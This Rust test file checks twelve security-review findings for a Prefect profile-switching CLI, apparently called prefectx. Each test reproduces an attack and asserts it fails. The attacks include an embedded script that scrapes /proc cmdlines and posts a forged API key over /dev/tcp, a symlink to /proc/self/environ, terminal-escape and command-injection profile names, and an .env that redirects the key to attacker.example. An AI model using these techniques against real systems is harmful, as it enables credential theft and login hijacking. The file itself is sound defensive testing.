//! The second security review (docs/security.md): each finding reproduced the way an attacker
//! would make it (a cloned repository, another account on the machine, a web page, a slow
//! client), through real shells where a shell is involved, and shown to change nothing.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::cloud::{self, fake_browser, post, request, GOOD_KEY};
use common::pty::*;
use common::*;

const FILE: &str = "active = \"dev\"\n\n[profiles.dev]\nPREFECT_API_URL = \"http://dev/api\"\nPREFECT_API_KEY = \"pnu_devkey\"\n\n[profiles.prod]\nPREFECT_API_URL = \"http://prod/api\"\nPREFECT_API_KEY = \"pnu_prodkey\"\n\n[profiles.staging]\nPREFECT_API_URL = \"http://staging/api\"\n";
const EVIL_KEY: &str = "pnu_attacker0123456789";

fn start(sb: &Sandbox, shell: &str) -> Term {
    Term::start(sb, shell, &rc_text(shell, &hook_line(shell, BIN)))
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn said(text: &str, needle: &str) -> usize {
    text.lines().filter(|l| l.contains(needle)).count()
}

/// A folder only root and its owner could use before: made 1777, reachable by others.
fn shared_folder(sb: &Sandbox, name: &str) -> PathBuf {
    let d = sb.home().join(name);
    std::fs::create_dir_all(&d).unwrap();
    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o1777)).unwrap();
    open_path_to_others(&d);
    d
}

/// `sh -c SCRIPT` as the second user, with `$1` = `arg`.
fn as_other(script: &str, arg: &Path) {
    let st = as_other_user("sh")
        .args(["-c", script, "sh"])
        .arg(arg)
        .status()
        .unwrap();
    assert!(st.success(), "{script}");
}

/// Finding 1: a cloned repository's `.prefect-profile` does not switch the shell to the
/// user's production key until the user allows it; allowing it applies it at the next prompt,
/// and an edit revokes it again.
#[test]
fn a_cloned_prefect_profile_does_not_choose_until_allowed() {
    for shell in interactive_shells() {
        let sb = Sandbox::new();
        sb.write_profiles(FILE);
        let repo = sb.home().join("clone");
        write(&repo.join(".prefect-profile"), "prod\n");
        let mut t = start(&sb, shell);
        let out = t.run("cd clone");
        assert_eq!(
            said(
                &out,
                "is not allowed (it names profile 'prod'); it does not choose"
            ),
            1,
            "{shell}: {out}"
        );
        assert_eq!(t.var("PREFECT_PROFILE"), "dev", "{shell}");
        assert_eq!(
            t.var("PREFECT_API_KEY"),
            "pnu_devkey",
            "{shell}: not prod's key"
        );
        let out = t.run("true");
        assert!(!out.contains("prefectx"), "{shell}: said once: {out}");
        // What a script or `make` in the folder gets.
        let env = stdout(&sb.run_in(&repo, &["env", "--shell", "sh"]));
        assert!(env.contains("PREFECT_PROFILE=dev"), "{shell}: {env}");
        // Allowed: applied at the next prompt, said once.
        let out = t.run("prefectx allow");
        assert!(out.contains("chooses profile 'prod'"), "{shell}: {out}");
        t.run("true");
        assert_eq!(t.var("PREFECT_API_KEY"), "pnu_prodkey", "{shell}: allowed");
        // An edit by anyone revokes it.
        std::fs::write(repo.join(".prefect-profile"), "staging\n").unwrap();
        let out = t.run("true");
        assert!(out.contains("is not allowed"), "{shell}: {out}");
        assert_eq!(t.var("PREFECT_PROFILE"), "dev", "{shell}: revoked");
        t.exit();
    }
}

/// Finding 2: another account reads the browser's command line (`/proc/*/cmdline`, readable by
/// every user) during a login and tries to post its own key. The browser is only ever given
/// `http://127.0.0.1:PORT/`, the nonce is in no command line, and the other user's requests
/// are refused; the real browser's key is the one stored.
#[test]
fn another_user_cannot_complete_the_browser_login() {
    if !can_be_another_user() {
        return;
    }
    // The usual Cloud, which also says whose key it is (`GET /me/`).
    let server = cloud::Server::start(|req, _| {
        let good = req.header("authorization") == Some(&format!("Bearer {GOOD_KEY}"));
        match (req.path.as_str(), good) {
            (p, true) if p.ends_with("/me/workspaces") => {
                cloud::Reply::Json(200, cloud::three_workspaces())
            }
            (p, true) if p.ends_with("/me/") => cloud::Reply::Json(
                200,
                r#"{"handle":"alice","email":"alice@example.com"}"#.into(),
            ),
            _ => cloud::Reply::Json(401, r#"{"detail":"Unauthorized"}"#.into()),
        }
    });
    let sb = cloud::sandbox(&server, FILE);
    let drop = shared_folder(&sb, "attack");
    let attacker = drop.join("attacker.sh");
    std::fs::write(
        &attacker,
        format!(
            r#"#!/bin/bash
# As another user: every command line on the machine, looking for the callback.
out="$1"
found=""
for f in /proc/[0-9]*/cmdline; do
  line=$(tr '\0' ' ' < "$f" 2>/dev/null) || continue
  case "$line" in *127.0.0.1:*) found="$found $line";; esac
done
echo "$found" > "$out/cmdlines"
url=$(grep -o 'http[^ ]*127\.0\.0\.1[^ ]*' "$out/cmdlines" | head -n1)
rest="${{url#*127.0.0.1}}"; rest="${{rest#%3A}}"; rest="${{rest#:}}"
port="${{rest%%[/%]*}}"
path="/${{rest#*/}}"
try() {{
  exec 3<>/dev/tcp/127.0.0.1/"$port" || return
  printf "%s %s HTTP/1.1\r\nHost: 127.0.0.1\r\n%sContent-Length: %s\r\n\r\n%s" "$1" "$2" "$3" "${{#4}}" "$4" >&3
  head -n1 <&3 | tr -d '\r' >> "$out/statuses"
  exec 3>&-
}}
# Spend the start address, then post a key to whatever path the command line showed.
try GET / "" ""
try POST "$path/success" 'Content-Type: application/json\r\n' '{{"api_key":"{EVIL_KEY}"}}'
try POST "${{path%/}}/success" 'Content-Type: application/json\r\nOrigin: http://ui.example\r\n' '{{"api_key":"{EVIL_KEY}"}}'
echo done >> "$out/statuses"
"#
        ),
    )
    .unwrap();
    std::fs::set_permissions(&attacker, std::fs::Permissions::from_mode(0o755)).unwrap();
    // The browser: first the other user's attempt, while the browser's own command line holds
    // the URL, then the Cloud UI's real request.
    let body = format!(
        "setpriv --reuid=65534 --regid=65534 --clear-groups -- '{}' '{}'\n{}",
        attacker.display(),
        drop.display(),
        post("/success", &format!("{{\"api_key\":\"{GOOD_KEY}\"}}"))
    );
    sb.set_env("BROWSER", &fake_browser(&sb, &body));
    let mut cmd = sb.cmd();
    cmd.args(["login", "--workspace", "acme/prod"]);
    let mut s = rexpect::session::spawn_command(cmd, Some(60_000)).unwrap();
    s.exp_string("How would you like to authenticate?").unwrap();
    s.send_line("").unwrap();
    let rest = s.exp_eof().unwrap();
    let cmdlines = std::fs::read_to_string(drop.join("cmdlines")).unwrap();
    assert!(
        cmdlines.contains("http://127.0.0.1:"),
        "the attacker saw the browser's command line: {cmdlines}"
    );
    assert!(
        !cmdlines.contains("callback"),
        "no callback (and no nonce) in any command line: {cmdlines}"
    );
    let statuses = std::fs::read_to_string(drop.join("statuses")).unwrap();
    let codes: Vec<&str> = statuses
        .lines()
        .filter_map(|l| l.split_whitespace().nth(1))
        .collect();
    assert_eq!(codes, ["403", "403", "403"], "{statuses}");
    assert!(rest.contains("Authenticated with Prefect Cloud!"), "{rest}");
    assert!(
        rest.contains("The browser sent a key of alice <alice@example.com>."),
        "whose key: {rest}"
    );
    let file = sb.read_profiles();
    assert!(
        file.contains(GOOD_KEY) && !file.contains(EVIL_KEY),
        "{file}"
    );
    assert!(server
        .requests()
        .iter()
        .all(|r| r.header("authorization") != Some(&format!("Bearer {EVIL_KEY}"))));
}

/// Finding 2: a second visit of the start address (someone else followed it first) stops the
/// login loudly; nothing is written.
#[test]
fn a_second_visit_of_the_login_address_stops_the_login() {
    let server = cloud::standard();
    let sb = cloud::sandbox(&server, FILE);
    let body = format!(
        "{}\n{}",
        request("GET", "/", "text/plain", "", ""),
        post("/success", &format!("{{\"api_key\":\"{GOOD_KEY}\"}}"))
    );
    sb.set_env("BROWSER", &fake_browser(&sb, &body));
    let mut cmd = sb.cmd();
    cmd.args(["login", "--workspace", "acme/prod"]);
    let mut s = rexpect::session::spawn_command(cmd, Some(30_000)).unwrap();
    s.exp_string("How would you like to authenticate?").unwrap();
    s.send_line("").unwrap();
    let rest = s.exp_eof().unwrap();
    assert!(
        rest.contains("the login address was opened a second time"),
        "{rest}"
    );
    assert_eq!(sb.read_profiles(), FILE);
    assert_eq!(server.count(), 0);
}

/// Finding 3: a `.prefect-profile` that is a symlink to `/proc/self/environ` (or to any file of
/// the user's) never has its text shown: not at a `cd`, not by `current`, `current --verbose`
/// or `doctor --offline`.
#[test]
fn a_prefect_profile_cannot_make_prefectx_print_the_key() {
    let secret = "pnu_shellsecret0123";
    let sb = Sandbox::new();
    sb.write_profiles(FILE);
    sb.set_env("PREFECT_API_KEY", secret);
    let repo = sb.home().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    std::os::unix::fs::symlink("/proc/self/environ", repo.join(".prefect-profile")).unwrap();
    let other = sb.home().join("repo2");
    std::fs::create_dir_all(&other).unwrap();
    write(
        &sb.home().join("notes.txt"),
        &format!("PREFECT_API_KEY={secret}\n"),
    );
    std::os::unix::fs::symlink("../notes.txt", other.join(".prefect-profile")).unwrap();
    for dir in [&repo, &other] {
        for args in [
            &["current"][..],
            &["current", "--verbose"],
            &["doctor", "--offline"],
            &["prompt"],
            &["allow"],
        ] {
            let o = sb.run_in(dir, args);
            let all = format!("{}{}", stdout(&o), stderr(&o));
            assert!(
                !all.contains(secret),
                "{args:?} in {}: {all}",
                dir.display()
            );
        }
    }
    let v = stdout(&sb.run_in(&repo, &["current", "--verbose"]));
    assert!(
        v.contains("is a file of the kernel (/proc, /sys); ignored"),
        "{v}"
    );
    for shell in interactive_shells() {
        let mut t = start(&sb, shell);
        for d in ["repo", "../repo2"] {
            let out = t.run(&format!("cd {d}"));
            assert!(!out.contains(secret), "{shell}: {out}");
        }
        t.exit();
    }
}

/// Finding 4: a symlink chooses only when its owner is the user. Another user's link to the
/// user's own file is not followed; the user's link to another user's file is refused, and
/// the folder falls through to the next rule instead of keeping the previous profile.
#[test]
fn symlinks_choose_only_for_their_owner() {
    if !can_be_another_user() {
        return;
    }
    for shell in interactive_shells() {
        let sb = Sandbox::new();
        sb.write_profiles(FILE);
        // Another user's link, in a shared folder, to a file of ours naming prod.
        let ours = sb.home().join("mine/.prefect-profile");
        write(&ours, "prod\n");
        assert!(sb
            .run_in(ours.parent().unwrap(), &["allow"])
            .status
            .success());
        open_path_to_others(&sb.home().join("mine"));
        let shared = shared_folder(&sb, "shared");
        as_other(
            "ln -s \"$1/../mine/.prefect-profile\" \"$1/.prefect-profile\"",
            &shared,
        );
        let o = sb.run_in(&shared, &["allow"]);
        assert!(
            !o.status.success()
                && stderr(&o).contains("is a symlink owned by another user (uid 65534)"),
            "{}",
            stderr(&o)
        );
        // Our own link to another user's file naming staging.
        let theirs = shared_folder(&sb, "theirs");
        as_other("echo staging > \"$1/name\"", &theirs);
        let linked = sb.home().join("linked");
        std::fs::create_dir_all(&linked).unwrap();
        std::os::unix::fs::symlink(theirs.join("name"), linked.join(".prefect-profile")).unwrap();

        let mut t = start(&sb, shell);
        let out = t.run("cd shared");
        assert_eq!(
            said(&out, "is a symlink owned by another user"),
            1,
            "{shell}: {out}"
        );
        assert_eq!(
            t.var("PREFECT_PROFILE"),
            "dev",
            "{shell}: not theirs to choose"
        );
        t.run("cd ../mine");
        assert_eq!(t.var("PREFECT_PROFILE"), "prod", "{shell}: our own file");
        let out = t.run("cd ../linked");
        assert_eq!(
            said(&out, "is owned by another user (uid 65534)"),
            1,
            "{shell}: {out}"
        );
        assert_eq!(
            t.var("PREFECT_PROFILE"),
            "dev",
            "{shell}: falls through to active, not kept on prod"
        );
        assert_eq!(t.var("PREFECT_API_KEY"), "pnu_devkey", "{shell}");
        t.exit();
    }
}

/// Finding 5: a regular file and a FIFO swapped under the same name (`.prefect-profile`,
/// `.env`) never hang `env`, `current` or the hook's refresh: every run ends.
#[test]
fn a_fifo_swapped_in_never_hangs_a_command() {
    let sb = Sandbox::new();
    sb.write_profiles(FILE);
    let dir = sb.home().join("race");
    std::fs::create_dir_all(&dir).unwrap();
    let regular = dir.join("regular");
    std::fs::write(&regular, "prod\n").unwrap();
    let fifo = dir.join("fifo");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let (dir, stop) = (dir.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut n = 0u64;
            while !stop.load(std::sync::atomic::Ordering::SeqCst) {
                for name in [".prefect-profile", ".env"] {
                    for src in ["regular", "fifo"] {
                        let tmp = dir.join(format!("tmp{n}"));
                        n += 1;
                        if std::fs::hard_link(dir.join(src), &tmp).is_ok() {
                            let _ = std::fs::rename(&tmp, dir.join(name));
                        }
                    }
                }
            }
        })
    };
    let runs: [&[&str]; 3] = [
        &["env", "--shell", "sh"],
        &["current"],
        &["hook-env", "bash", "refresh"],
    ];
    for i in 0..60 {
        let args = runs[i % runs.len()];
        let mut child = sb
            .cmd()
            .current_dir(&dir)
            .env("PWD", &dir)
            .args(args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let ended = poll(30, || child.try_wait().unwrap());
        if ended.is_none() {
            let _ = child.kill();
            stop.store(true, std::sync::atomic::Ordering::SeqCst);
            panic!("`prefectx {}` hung (run {i})", args.join(" "));
        }
    }
    stop.store(true, std::sync::atomic::Ordering::SeqCst);
    swapper.join().unwrap();
}

/// Finding 6: a `.prefect-profile` of another user in a shared folder is passed over, said
/// once; the shell there keeps following `active`, and commands work.
#[test]
fn another_users_file_in_a_shared_folder_does_not_freeze_the_shell() {
    if !can_be_another_user() {
        return;
    }
    for shell in interactive_shells() {
        let sb = Sandbox::new();
        sb.write_profiles(FILE);
        let shared = shared_folder(&sb, "x");
        as_other("echo staging > \"$1/.prefect-profile\"", &shared);
        let mut t = start(&sb, shell);
        let out = t.run("cd x");
        assert_eq!(
            said(&out, "owned by another user (uid 65534); ignored"),
            1,
            "{shell}: {out}"
        );
        for _ in 0..3 {
            let out = t.run("true");
            assert!(
                !out.contains("prefectx"),
                "{shell}: said once per folder: {out}"
            );
        }
        // `active` changes elsewhere: this shell follows.
        assert!(sb.run(&["use", "--global", "prod"]).status.success());
        let out = t.run("true");
        assert!(out.contains("now using 'prod'"), "{shell}: {out}");
        assert_eq!(t.var("PREFECT_API_KEY"), "pnu_prodkey", "{shell}");
        let o = sb.run_in(&shared, &["current"]);
        assert!(o.status.success(), "{}", stderr(&o));
        assert_eq!(stdout(&o), "prod\n");
        t.exit();
    }
}

/// Finding 7: clients that connect and send nothing, or trickle a byte at a time, do not hold
/// the login callback: the real browser's request is served, and with no real request the
/// login's own deadline still ends it.
#[test]
fn slow_clients_cannot_hold_the_login_callback() {
    let server = cloud::standard();
    let sb = cloud::sandbox(&server, FILE);
    let hold = r#"
exec 4<>/dev/tcp/127.0.0.1/"$port"
exec 5<>/dev/tcp/127.0.0.1/"$port"
( exec 6<>/dev/tcp/127.0.0.1/"$port"; for i in $(seq 600); do printf x >&6 2>/dev/null || exit 0; sleep 0.5; done ) &
"#;
    let body = format!(
        "{hold}\n{}",
        post("/success", &format!("{{\"api_key\":\"{GOOD_KEY}\"}}"))
    );
    sb.set_env("BROWSER", &fake_browser(&sb, &body));
    sb.set_env("PREFECTX_LOGIN_TIMEOUT", "120");
    let mut cmd = sb.cmd();
    cmd.args(["login", "--workspace", "acme/prod"]);
    let mut s = rexpect::session::spawn_command(cmd, Some(90_000)).unwrap();
    s.exp_string("How would you like to authenticate?").unwrap();
    s.send_line("").unwrap();
    let rest = s.exp_eof().unwrap();
    assert!(rest.contains("Authenticated with Prefect Cloud!"), "{rest}");
    assert!(sb.read_profiles().contains(GOOD_KEY));

    // Only slow clients: the login's deadline ends it.
    let sb = cloud::sandbox(&server, FILE);
    sb.set_env("BROWSER", &fake_browser(&sb, hold));
    sb.set_env("PREFECTX_LOGIN_TIMEOUT", "2");
    let mut cmd = sb.cmd();
    cmd.args(["login", "--workspace", "acme/prod"]);
    let mut s = rexpect::session::spawn_command(cmd, Some(90_000)).unwrap();
    s.exp_string("How would you like to authenticate?").unwrap();
    s.send_line("").unwrap();
    let rest = s.exp_eof().unwrap();
    assert!(rest.contains("timed out after 2 s"), "{rest}");
    assert_eq!(sb.read_profiles(), FILE);
    // And the deadline is in `login --help`.
    let help = stdout(&sb.run(&["login", "--help"]));
    assert!(help.contains("PREFECTX_LOGIN_TIMEOUT"), "{help}");
}

/// Finding 8: an allowed project file that moves the profiles file into the repository does
/// not get a key written there, nor does any file inside a Git work tree.
#[test]
fn a_key_is_never_written_into_a_repository() {
    let server = cloud::standard();
    let sb = cloud::sandbox(&server, FILE);
    let repo = sb.home().join("repo");
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    let shipped = "active = \"work\"\n\n[profiles.work]\n";
    write(&repo.join("profiles.toml"), shipped);
    std::fs::set_permissions(
        repo.join("profiles.toml"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    write(
        &repo.join(".env"),
        "PREFECT_PROFILES_PATH=./profiles.toml\n",
    );
    assert!(sb.run_in(&repo, &["allow"]).status.success());
    let o = sb.run_in(&repo, &cloud::login_args(&[]));
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert_eq!(stderr(&o).lines().count(), 1, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("was chosen by PREFECT_PROFILES_PATH in a project file"),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        std::fs::read_to_string(repo.join("profiles.toml")).unwrap(),
        shipped
    );
    // The user's own PREFECT_PROFILES_PATH into a work tree: refused too, saying why.
    let o = sb
        .cmd()
        .env("PREFECT_PROFILES_PATH", repo.join("profiles.toml"))
        .args(cloud::login_args(&[]))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("is inside the Git work tree"),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        std::fs::read_to_string(repo.join("profiles.toml")).unwrap(),
        shipped
    );
    assert!(!sb.read_profiles().contains(GOOD_KEY));
}

/// Finding 9: the hook's own messages show no raw control characters from a profile name or
/// the binary's path.
#[test]
fn shell_warnings_show_no_raw_control_characters() {
    for shell in interactive_shells() {
        let sb = Sandbox::new();
        let evil = "x\\u001b]0;owned\\u0007\\u001b[2J";
        sb.write_profiles(&format!(
            "active = \"{evil}\"\n\n[profiles.\"{evil}\"]\nPREFECT_API_URL = \"http://x/api\"\n\n[profiles.dev]\n"
        ));
        let bin_dir = sb.dir.path().join("b\u{1b}]0;t\u{7}");
        std::fs::create_dir_all(&bin_dir).unwrap();
        let bin = bin_dir.join("prefectx");
        std::fs::copy(BIN, &bin).unwrap();
        let hook = match shell {
            "fish" => "$PREFECTX_TEST_BIN hook fish | source".to_string(),
            _ => format!("eval \"$(\"$PREFECTX_TEST_BIN\" hook {shell})\""),
        };
        sb.set_env("PREFECTX_TEST_BIN", &bin.display().to_string());
        let mut t = Term::start(&sb, shell, &rc_text(shell, &hook));
        let out = t.run("PREFECT_PROFILE=dev true");
        let line = out
            .lines()
            .find_map(|l| l.find("prefectx: warning").map(|i| &l[i..]))
            .unwrap_or_else(|| panic!("{shell}: no warning: {out:?}"));
        assert!(
            !line.contains('\u{1b}') && !line.contains('\u{7}'),
            "{shell}: raw control characters: {line:?}"
        );
        assert!(line.contains("\\u{1b}"), "{shell}: shown escaped: {line:?}");
        std::fs::remove_file(&bin).unwrap();
        // The next change finds the binary gone.
        let text = sb.read_profiles();
        sb.write_profiles(&format!("{text}\n"));
        let out = t.run("true");
        // From our line on: zsh draws its own PROMPT_SP marks before it.
        let line = out
            .lines()
            .find_map(|l| {
                l.find("prefectx: ")
                    .filter(|_| l.contains("is gone"))
                    .map(|i| &l[i..])
            })
            .unwrap_or_else(|| panic!("{shell}: no line: {out:?}"));
        assert!(
            !line.contains('\u{1b}') && !line.contains('\u{7}'),
            "{shell}: raw control characters: {line:?}"
        );
        t.exit();
    }
}

/// Finding 10: a NUL byte in a project file's value is refused by `allow` with file, line and
/// key, and never reaches the shell.
#[test]
fn a_nul_byte_in_a_project_file_is_refused() {
    let sb = Sandbox::new();
    sb.write_profiles(FILE);
    let proj = sb.home().join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    std::fs::write(
        proj.join(".env"),
        b"# settings\nPREFECT_CLIENT_MAX_RETRIES=3\nPREFECT_LOGGING_LEVEL=DE\0BUG\n",
    )
    .unwrap();
    let o = sb.run_in(&proj, &["allow"]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(
        err.contains("/proj/.env: line 3: PREFECT_LOGGING_LEVEL: the value holds a NUL byte"),
        "{err}"
    );
    let o = sb.run_in(&proj, &["env", "--shell", "sh"]);
    assert!(!o.stdout.contains(&0), "no NUL for eval");
    std::fs::remove_file(proj.join(".env")).unwrap();
    std::fs::write(
        proj.join("prefect.toml"),
        "[logging]\nlevel = \"DE\\u0000BUG\"\n",
    )
    .unwrap();
    let o = sb.run_in(&proj, &["allow"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o)
            .contains("prefect.toml: line 2: PREFECT_LOGGING_LEVEL: the value holds a NUL byte"),
        "{}",
        stderr(&o)
    );
}

/// Finding 11: nushell's TAB inserts a hostile profile name quoted, and Enter runs nothing but
/// the intended command.
#[test]
fn nushell_tab_inserts_hostile_names_quoted() {
    if !have("nu") || !have("tmux") {
        return;
    }
    let sb = Sandbox::new();
    sb.write_profiles(
        "active = \"dev\"\n\n[profiles.dev]\n\n[profiles.\"zz;touch pwn;#\"]\nPREFECT_API_URL = \"http://zz/api\"\n",
    );
    let cfg = sb.dir.path().join("nu-config");
    std::fs::create_dir_all(&cfg).unwrap();
    let hook = sb.run(&["hook", "nu"]);
    std::fs::write(cfg.join("prefectx.nu"), &hook.stdout).unwrap();
    std::fs::write(
        cfg.join("config.nu"),
        format!(
            "$env.config.show_banner = false\n$env.PROMPT_COMMAND = {{|| \"PX> \" }}\n$env.PROMPT_INDICATOR = \"\"\n$env.PROMPT_COMMAND_RIGHT = \"\"\nsource {}\n",
            cfg.join("prefectx.nu").display()
        ),
    )
    .unwrap();
    std::fs::write(cfg.join("env.nu"), "").unwrap();
    let mut c = Command::new("nu");
    c.args(["--config"])
        .arg(cfg.join("config.nu"))
        .arg("--env-config")
        .arg(cfg.join("env.nu"));
    c.env_clear().envs(sb.envs()).current_dir(sb.home());
    let t = Tmux::start(c, "nuhostile");
    t.wait_for("PX>");
    t.keys(&["prefectx use zz", "Tab"]);
    t.wait_for("prefectx use \"zz;touch pwn;#\"");
    t.keys(&["Enter"]);
    t.keys(&["print $\"P=($env.PREFECT_PROFILE)\"", "Enter"]);
    t.wait_for("P=zz;touch pwn;#");
    assert!(!sb.home().join("pwn").exists(), "TAB ran a command");
}

/// Finding 12: `allow` of files that send the key of the profile in effect to another URL
/// says where, asks on a terminal and refuses without one unless `--yes`.
#[test]
fn allow_says_where_a_key_would_go_and_asks() {
    let sb = Sandbox::new();
    sb.write_profiles(FILE);
    let proj = sb.home().join("proj");
    write(
        &proj.join(".env"),
        "PREFECT_API_URL=http://attacker.example/api\n",
    );
    let o = sb.run_in(&proj, &["allow"]);
    assert_eq!(o.status.code(), Some(1));
    let err = stderr(&o);
    assert!(
        err.contains("profile 'dev''s key will be sent to http://attacker.example/api")
            && err.contains("nothing allowed")
            && err.contains("--yes"),
        "{err}"
    );
    let env = stdout(&sb.run_in(&proj, &["env", "--shell", "sh"]));
    assert!(
        env.contains("PREFECT_API_URL=http://dev/api"),
        "not applied: {env}"
    );
    // On a terminal: asked; no keeps it unallowed, yes allows it.
    for (answer, allowed) in [("n", false), ("y", true)] {
        let mut cmd = sb.cmd();
        cmd.current_dir(&proj).env("PWD", &proj).arg("allow");
        let mut s = rexpect::session::spawn_command(cmd, Some(20_000)).unwrap();
        s.exp_string("key will be sent to http://attacker.example/api")
            .unwrap();
        s.exp_string("[y/N]").unwrap();
        s.send_line(answer).unwrap();
        s.exp_eof().unwrap();
        let env = stdout(&sb.run_in(&proj, &["env", "--shell", "sh"]));
        assert_eq!(
            env.contains("PREFECT_API_URL=http://attacker.example/api"),
            allowed,
            "{answer}: {env}"
        );
    }
    // --yes, where there is no terminal.
    std::fs::write(
        proj.join(".env"),
        "PREFECT_API_URL=http://other.example/api\n",
    )
    .unwrap();
    let o = sb.run_in(&proj, &["allow", "--yes"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("key will be sent to http://other.example/api"));
}
